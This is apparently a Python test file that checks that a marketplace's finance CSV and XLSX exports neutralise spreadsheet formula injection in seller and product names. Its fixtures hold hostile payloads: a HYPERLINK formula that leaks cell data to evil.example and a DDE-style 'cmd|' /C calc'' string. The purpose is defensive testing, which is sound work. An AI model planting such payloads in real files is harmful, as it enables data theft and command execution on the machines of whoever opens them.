"""Formula injection in the finance office's exports (issue 14, item 1): a verified seller and
products named as spreadsheet formulas, one paid order, and every export opened as a spreadsheet
program would: no XLSX formula cell, every CSV cell neutralised, the names still readable."""

import csv
import io
from typing import Any

from openpyxl import load_workbook

from tests.support import Api
from tests.test_levy_ledger import paid_order

HOSTILE_SELLER = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
# (Tab and CR in front are stripped by the catalog; libs/runtime/tests/test_exports.py covers them.)
HOSTILE_PRODUCTS = ("=1+2*3", "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")
GROUPS = ("day", "month", "regency", "seller", "category")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def every_export(api: Api, seller_id: str) -> dict[str, bytes]:
    files = {}
    for format in ("csv", "xlsx"):
        targets = [("ledger", {})] + [("summary", {"group_by": group}) for group in GROUPS]
        for name, params in targets:
            response = await api.payments.get(f"/finance/exports/{name}", params={"seller_id": seller_id, "format": format, **params})
            assert response.status_code == 200, response.text
            files[f"{name}:{params.get('group_by', '')}.{format}"] = response.content
    return files


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(data))  # not read-only: data_type is only reliable on full cells
    formulas = [cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]


async def test_hostile_names_reach_every_export_as_text(api: Api) -> None:
    seller = await api.seller("Manggarai Barat", name=HOSTILE_SELLER)
    products = [
        await api.product(seller, price=10_000 + i, stock=5, category="kerajinan", name=name) for i, name in enumerate(HOSTILE_PRODUCTS)
    ]
    await paid_order(api, [(product, 1) for product in products])

    files = await every_export(api, seller["id"])
    seen_names = set()
    for name, data in files.items():
        if name.endswith(".xlsx"):
            values = [v for v in xlsx_cells(data) if isinstance(v, str)]
            # In XLSX the names stay exactly as written: string cells are text whatever they start with.
            seen_names |= {v for v in values if v == HOSTILE_SELLER or v in HOSTILE_PRODUCTS}
        else:
            cells = csv_cells(data)
            dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
            assert not dangerous, f"{name}: cells a spreadsheet would evaluate: {dangerous}"
            seen_names |= {cell[1:] for cell in cells if cell.startswith("'")}
    # The attack really went through every export that shows names (not vacuously safe).
    assert HOSTILE_SELLER in seen_names and set(HOSTILE_PRODUCTS) <= seen_names, seen_names
    ledger_csv = csv_cells(files["ledger:.csv"])
    assert "'" + HOSTILE_SELLER in ledger_csv and "'=1+2*3" in ledger_csv
    assert "'" + HOSTILE_SELLER in csv_cells(files["summary:seller.csv"])
